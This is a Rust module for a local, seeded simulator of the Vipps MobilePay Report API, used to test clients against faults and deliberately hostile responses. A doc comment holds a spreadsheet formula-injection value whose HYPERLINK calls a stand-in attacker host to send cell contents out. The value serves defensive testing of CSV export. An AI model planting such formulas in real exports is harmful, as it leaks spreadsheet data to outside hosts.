//! A fake Vipps MobilePay Report API for tests and demos ("the simulator").
//!
//! This module owns a local, deterministic stand-in for the accounting-partner side of the
//! Report API (see `shared/report-api.md`): the MIAMI client-credentials token endpoint (and,
//! for merchant keys, the standard `/accesstoken/get` with subscription keys, `merchant.rs`),
//! the ledger list, the `funds`/`fees` feeds and the per-date reports, with realistic, seeded data
//! (balance chains, capture fees sharing a `pspReference`, disputes, unknown entry types and
//! fields, two payout spellings, two `time` spellings). Test controls (page size, token
//! lifetime, overlapping or repeated pages, growth, grants, expired tokens) and request
//! counters let tests check what a client did. Seeded fault injection ([`FaultConfig`]:
//! 429 with `Retry-After`, 5xx, broken or malformed bodies, stalls, overlapping or stuck feed
//! pages) is reproducible per request, and the counters record how the client coped
//! (`Retry-After` violations, peak concurrency). Beside them, named hostile modes
//! ([`Hostile`], `hostile.rs`) make the API misbehave deterministically, one way at a time,
//! for every request in scope: absurd token lifetimes and `Retry-After`s, cursors that cycle,
//! repeat or never end, huge pages (streamed) and cursors, an entry dated 2099, ledger ids
//! that are paths or carry control characters, redirects to another host, and random data
//! shaped like the OpenAPI file (`hostile_config.rs`, `hostile_pages.rs`, `hostile_wire.rs`,
//! `schema_random.rs`). All state sits behind one `std::sync::Mutex`, held briefly.
//!
//! Cursor behaviour a client can rely on here (the real API documents less): a feed cursor is
//! never empty and points just past the items served; `tryLater` is true iff the page reached
//! the end of what is currently available, so the last non-empty page already carries it; at
//! the end with nothing new the request's own cursor comes back with no items.

mod admin;
mod book;
mod cursor;
mod entry;
mod events;
mod faults;
mod generate;
mod hostile;
mod hostile_config;
mod hostile_pages;
mod hostile_wire;
mod http;
mod inject;
mod merchant;
mod pages;
mod profile;
mod schema_random;
mod state;
mod stats;
#[cfg(test)]
mod tests;

use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use chrono::NaiveDate;
use serde_json::{json, Value};
use tokio_util::sync::CancellationToken;

use book::LedgerBook;
use entry::Topic;
use profile::LedgerProfile;
use state::State;

pub use faults::FaultConfig;
pub use hostile::{
    Hostile, DEFAULT_HUGE_CURSOR_BYTES, DEFAULT_HUGE_PAGE_MEGABYTES, DEFAULT_REDIRECT_LOCATION,
    DEFAULT_RETRY_AFTER, MAX_CYCLE_PERIOD, MAX_HUGE_CURSOR_BYTES, MAX_HUGE_PAGE_MEGABYTES,
    RETRY_AFTER_YEAR_9999,
};
pub use hostile_config::HostileConfig;
pub use stats::SimStats;

/// What the simulator generates and how it pages; see [`Default`] for the values tests use.
#[derive(Clone, Debug)]
pub struct SimulatorConfig {
    /// Seed of every random choice; the same seed gives byte-identical data.
    pub seed: u64,
    /// Number of ledgers; ids are `"100001"`, `"100002"`, ...
    pub ledgers: usize,
    /// Ledger dates generated per ledger at start (the last one is still open).
    pub days: u32,
    /// Average captures per ledger and date; each date varies it by up to ±50 %.
    pub captures_per_day: u32,
    /// The first `busy_ledgers` ledgers have `busy_captures_per_day` instead (a bureau's few
    /// busy merchants among many quiet ones).
    pub busy_ledgers: usize,
    pub busy_captures_per_day: u32,
    /// The first ledger date.
    pub start_date: NaiveDate,
    /// Most items per feed or dates page (the API's documented maximum is 1000).
    pub feed_page_size: usize,
    /// Ledgers per page of `GET /settlement/v1/ledgers` (small, so clients must page).
    pub ledger_page_size: usize,
    /// Lifetime of issued tokens (the real API: 900 s).
    pub token_ttl: Duration,
    /// Send `"expires_in": "900"` (a string, as the spec types it) instead of a number.
    pub expires_in_as_string: bool,
    /// Ids for the first ledgers instead of the numbered ones (the API's ids are strings:
    /// `acme.1` and `acme_1` are two ledgers).
    pub ledger_ids: Vec<String>,
    /// Every fifth order reference is a spreadsheet formula
    /// (`=HYPERLINK("https://evil.example/?"&A1,"<order>")`): valid text for the API, and
    /// what a CSV export must not hand to a spreadsheet as it is (`simulate
    /// --formula-references`).
    pub formula_references: bool,
}

impl Default for SimulatorConfig {
    fn default() -> Self {
        SimulatorConfig {
            seed: 42,
            ledgers: 12,
            days: 10,
            captures_per_day: 20,
            busy_ledgers: 0,
            busy_captures_per_day: 0,
            start_date: NaiveDate::from_ymd_opt(2026, 1, 5).unwrap_or_default(),
            feed_page_size: 1000,
            ledger_page_size: 5,
            token_ttl: Duration::from_secs(900),
            expires_in_as_string: false,
            ledger_ids: Vec::new(),
            formula_references: false,
        }
    }
}

impl SimulatorConfig {
    /// The data set of the `demo` command: 12 ledgers, two weeks, several thousand entries.
    pub fn demo() -> Self {
        SimulatorConfig {
            days: 14,
            captures_per_day: 15,
            ..SimulatorConfig::default()
        }
    }
}

/// The simulated Report API: data, partners, tokens and counters behind one lock.
#[derive(Debug)]
pub struct Simulator {
    state: Mutex<State>,
}

impl Simulator {
    /// Generates the ledgers and their first `config.days` dates; no partners yet.
    pub fn new(config: SimulatorConfig) -> Arc<Simulator> {
        let books = (0..config.ledgers)
            .map(|i| {
                let mut profile = LedgerProfile::generate(config.seed, i);
                if let Some(id) = config.ledger_ids.get(i) {
                    profile.ledger_id = id.clone();
                }
                profile.formula_references = config.formula_references;
                let captures = if i < config.busy_ledgers {
                    config.busy_captures_per_day
                } else {
                    config.captures_per_day
                };
                let mut book = LedgerBook::new(profile, config.start_date, captures);
                book.grow(config.seed, config.days);
                book
            })
            .collect();
        let mut st = State::new(config.seed, books);
        st.feed_page_size = config.feed_page_size.max(1);
        st.ledger_page_size = config.ledger_page_size.max(1);
        st.token_ttl = config.token_ttl;
        st.expires_in_as_string = config.expires_in_as_string;
        Arc::new(Simulator {
            state: Mutex::new(st),
        })
    }

    /// The state; a panic elsewhere while holding the lock does not poison the simulator.
    fn lock(&self) -> MutexGuard<'_, State> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Adds a partner (accounting keys) with no grants; re-adding one replaces its secret
    /// and keeps its grants.
    pub fn add_partner(&self, client_id: &str, client_secret: &str) {
        let mut st = self.lock();
        let p = st.partners.entry(client_id.to_string()).or_default();
        p.secret = client_secret.to_string();
    }

    /// Adds a partner granted every ledger.
    pub fn add_partner_with_all_ledgers(&self, client_id: &str, client_secret: &str) {
        self.add_partner(client_id, client_secret);
        let mut st = self.lock();
        let ids: Vec<String> = st.ledgers.keys().cloned().collect();
        if let Some(p) = st.partners.get_mut(client_id) {
            p.grants.extend(ids);
        }
    }

    /// Adds a merchant's own keys for the sales unit `msn`: a token from `/accesstoken/get`
    /// with one of `subscription_keys` (primary, then secondary) lists exactly the ledgers
    /// with a sales unit `api:<msn>`, and every call must carry one of those keys.
    pub fn add_merchant(
        &self,
        client_id: &str,
        client_secret: &str,
        msn: &str,
        subscription_keys: &[&str],
    ) {
        let mut st = self.lock();
        let grants = st.ledgers_of_msn(msn).into_iter().collect();
        st.partners.insert(
            client_id.to_owned(),
            state::Partner {
                secret: client_secret.to_owned(),
                grants,
                merchant: Some(merchant::MerchantAccess {
                    msn: msn.to_owned(),
                    subscription_keys: subscription_keys.iter().map(|k| (*k).to_owned()).collect(),
                }),
            },
        );
    }

    /// The merchant regenerates `key` in the portal: from now on it is refused (401 from
    /// `/accesstoken/get` and on every call) while its other key still works.
    pub fn regenerate_subscription_key(&self, client_id: &str, key: &str) {
        let mut st = self.lock();
        if let Some(m) = st
            .partners
            .get_mut(client_id)
            .and_then(|p| p.merchant.as_mut())
        {
            m.subscription_keys.retain(|k| k != key);
        }
    }

    /// Every Merchant Serial Number (sales units `api:<MSN>`) with the ledgers it settles
    /// into, sorted by MSN: what a merchant's keys would list.
    pub fn merchant_serial_numbers(&self) -> Vec<(String, Vec<String>)> {
        let st = self.lock();
        let mut msns: Vec<String> = st
            .ledgers
            .values()
            .flat_map(|b| b.profile.sales_units.iter())
            .filter_map(|u| u.handle.strip_prefix("api:").map(str::to_owned))
            .collect();
        msns.sort();
        msns.dedup();
        msns.into_iter()
            .map(|msn| {
                let ledgers = st.ledgers_of_msn(&msn);
                (msn, ledgers)
            })
            .collect()
    }

    /// A merchant grants `ledger_id` to the partner; unknown partners or ledgers are ignored
    /// (with a warning).
    pub fn grant(&self, client_id: &str, ledger_id: &str) {
        if let Err(msg) = self.lock().grant(client_id, ledger_id) {
            tracing::warn!(client_id, ledger_id, "simulator grant ignored: {msg}");
        }
    }

    /// A merchant withdraws the grant; the ledger then answers 404 to that partner.
    pub fn revoke(&self, client_id: &str, ledger_id: &str) {
        if let Err(msg) = self.lock().revoke(client_id, ledger_id) {
            tracing::warn!(client_id, ledger_id, "simulator revoke ignored: {msg}");
        }
    }

    /// Every ledger id, sorted.
    pub fn ledger_ids(&self) -> Vec<String> {
        self.lock().ledgers.keys().cloned().collect()
    }

    /// Appends `days` more ledger dates of entries to every ledger; the previously open date
    /// closes (its `fees-retained` and payout appear) and the new last date is open.
    pub fn grow(&self, days: u32) {
        self.lock().grow(days);
    }

    /// Appends `days` more ledger dates to one ledger only: a busy ledger among quiet ones.
    pub fn grow_ledger(&self, ledger_id: &str, days: u32) {
        self.lock().grow_ledger(ledger_id, days);
    }

    /// Sets the simulated now: from then on entries are served only once their `time` has
    /// come, as the real feeds fill during the day (`None`, the default: every date
    /// generated at once; the open date's end-of-date entries are held back until the ledger
    /// grows either way).
    pub fn set_clock(&self, now: Option<chrono::DateTime<chrono::Utc>>) {
        let micros = now.map(|t| t.timestamp_micros());
        for book in self.lock().ledgers.values_mut() {
            book.set_clock(micros);
        }
    }

    /// When each entry of a feed appears (its `time`), served yet or not, in feed order,
    /// without the open date's end-of-date entries; empty for an unknown ledger or topic.
    pub fn entry_times(&self, ledger_id: &str, topic: &str) -> Vec<chrono::DateTime<chrono::Utc>> {
        let st = self.lock();
        match (st.ledgers.get(ledger_id), Topic::parse(topic)) {
            (Some(book), Some(t)) => book
                .generated(t)
                .iter()
                .filter_map(|e| chrono::DateTime::from_timestamp_micros(e.moment))
                .collect(),
            _ => Vec::new(),
        }
    }

    /// The feed as the API currently serves it, in feed order, without the GDPR fields
    /// (and without what a hostile mode adds). Unknown ledgers or topics give an empty list;
    /// in the `hostile-ledger-ids` mode a hostile id gives the entries it serves.
    pub fn expected_entries(&self, ledger_id: &str, topic: &str) -> Vec<Value> {
        let st = self.lock();
        let book = st
            .ledgers
            .get(ledger_id)
            .or_else(|| st.hostile_id_book(ledger_id));
        match (book, Topic::parse(topic)) {
            (Some(book), Some(t)) => book.visible(t).iter().map(|e| e.to_json(false)).collect(),
            _ => Vec::new(),
        }
    }

    /// The access tokens issued and still valid (for tests that check none is ever logged).
    pub fn issued_tokens(&self) -> Vec<String> {
        self.lock().issued_tokens()
    }

    /// Every personal value (payer name, masked phone number, message) the feeds serve with
    /// `includeGDPRSensitiveData=true` (empty ones left out), for tests that check none is
    /// ever logged.
    pub fn personal_values(&self) -> Vec<String> {
        let st = self.lock();
        let mut values = Vec::new();
        for book in st.ledgers.values() {
            for topic in [Topic::Funds, Topic::Fees] {
                for g in book.visible(topic).iter().filter_map(|e| e.gdpr.as_ref()) {
                    values.extend([g.name.clone(), g.masked_phone_no.clone(), g.message.clone()]);
                }
            }
        }
        values.retain(|v| !v.is_empty());
        values.sort();
        values.dedup();
        values
    }

    /// The ledger object as served by `GET /settlement/v1/ledgers`.
    pub fn ledger_json(&self, ledger_id: &str) -> Option<Value> {
        self.lock()
            .ledgers
            .get(ledger_id)
            .map(|b| b.profile.to_json())
    }

    /// A snapshot of the request counters.
    pub fn stats(&self) -> SimStats {
        self.lock().stats.clone()
    }

    /// Zeroes the request counters; `max_in_flight` restarts at the calls in flight now.
    pub fn reset_stats(&self) {
        let mut st = self.lock();
        st.stats = SimStats::default();
        st.stats.max_in_flight = st.in_flight;
    }

    /// Turns seeded fault injection on (`Some`) or off (`None`) for data requests from now
    /// on; see [`FaultConfig`]. Either way the per-request draw counts start again, so the
    /// same configuration and the same request sequence give the same faults.
    pub fn set_faults(&self, faults: Option<FaultConfig>) {
        let mut st = self.lock();
        st.faults = faults;
        st.fault_draws.clear();
    }

    /// Turns a hostile mode on (`Some`) or off (`None`) from the next request on; see
    /// [`HostileConfig`] for its scope and [`Hostile`] for the modes. One mode at a time:
    /// setting one replaces the one in effect. Faults still hit the requests it leaves alone.
    pub fn set_hostile(&self, hostile: Option<HostileConfig>) {
        self.lock().hostile = hostile;
    }

    /// The hostile mode in effect, if any.
    pub fn hostile(&self) -> Option<HostileConfig> {
        self.lock().hostile.clone()
    }

    /// Every token handed out so far is refused with 401 from now on (as if revoked early);
    /// new tokens from the token endpoint work.
    pub fn expire_tokens(&self) {
        self.lock().expire_tokens();
    }

    /// Most items per feed or dates page from now on (at least 1).
    pub fn set_feed_page_size(&self, n: usize) {
        self.lock().feed_page_size = n.max(1);
    }

    /// Lifetime of tokens issued from now on (`Duration::ZERO`: expired at once).
    pub fn set_token_ttl(&self, ttl: Duration) {
        self.lock().token_ttl = ttl;
    }

    /// Every non-empty feed page starts `n` items before the cursor position, so pages
    /// overlap by `n` items (0 = off). The empty end-of-feed page stays empty.
    pub fn set_overlap(&self, n: usize) {
        self.lock().overlap = n;
    }

    /// When on, each non-empty feed page is first served with the request's own cursor (so
    /// the client gets the same page again) and only the second time with the advancing one.
    pub fn set_repeat_pages(&self, on: bool) {
        let mut st = self.lock();
        st.repeat_pages = on;
        st.repeat_served.clear();
    }

    /// Makes page `page` (1-based; page 1 is the request without a cursor) of
    /// `GET /settlement/v1/ledgers` answer HTTP 500 (`{"errorCode":10001,...}`) for every
    /// partner, until called again with `None`.
    pub fn fail_ledger_list_page(&self, page: Option<usize>) {
        self.lock().fail_ledger_page = page;
    }

    /// The next feed request for `ledger_id` (either topic, any partner) answers 404 `No such
    /// ledgerId` once, as a gateway having a bad moment would; later requests are answered
    /// as usual. A client must not take that one 404 for consent ending.
    pub fn not_found_once(&self, ledger_id: &str) {
        self.lock().not_found_once.insert(ledger_id.to_owned());
    }

    /// From now on every feed and dates cursor handed out so far for `ledger_id` is refused
    /// with 400 problem+json (`"detail": "Invalid cursor"`), as if the API had forgotten
    /// them. Requests without a cursor, and the cursors they return, work as before.
    pub fn invalidate_cursors(&self, ledger_id: &str) {
        let mut st = self.lock();
        st.repeat_served.retain(|(l, _, _)| l != ledger_id);
        if let Some(book) = st.ledgers.get_mut(ledger_id) {
            book.cursor_epoch += 1;
        }
    }

    /// Serves the API on an already-bound listener until `shutdown` is cancelled.
    pub async fn serve(
        self: Arc<Self>,
        listener: tokio::net::TcpListener,
        shutdown: CancellationToken,
    ) -> std::io::Result<()> {
        let app = http::router(self);
        axum::serve(listener, app)
            .with_graceful_shutdown(async move { shutdown.cancelled().await })
            .await
    }

    /// Binds `addr` (e.g. `127.0.0.1:0`), serves on a spawned task of the current runtime
    /// until `shutdown` is cancelled, and returns the bound address.
    pub async fn spawn(
        self: Arc<Self>,
        addr: SocketAddr,
        shutdown: CancellationToken,
    ) -> std::io::Result<SocketAddr> {
        let listener = tokio::net::TcpListener::bind(addr).await?;
        let bound = listener.local_addr()?;
        tokio::spawn(async move {
            if let Err(e) = self.serve(listener, shutdown).await {
                tracing::error!(error = %e, "simulator server stopped");
            }
        });
        Ok(bound)
    }

    /// Each ledger's open (last generated) ledger date, for the admin routes.
    fn last_ledger_dates(&self) -> Vec<(String, Option<String>)> {
        let st = self.lock();
        st.ledgers
            .iter()
            .map(|(id, b)| {
                (
                    id.clone(),
                    b.last_date().map(|d| d.format("%Y-%m-%d").to_string()),
                )
            })
            .collect()
    }

    /// A partner's id and granted ledgers, for the admin routes.
    fn partner_json(&self, client_id: &str) -> Value {
        let st = self.lock();
        let grants: Vec<String> = st
            .partners
            .get(client_id)
            .map(|p| p.grants.iter().cloned().collect())
            .unwrap_or_default();
        json!({ "clientId": client_id, "ledgers": grants })
    }
}
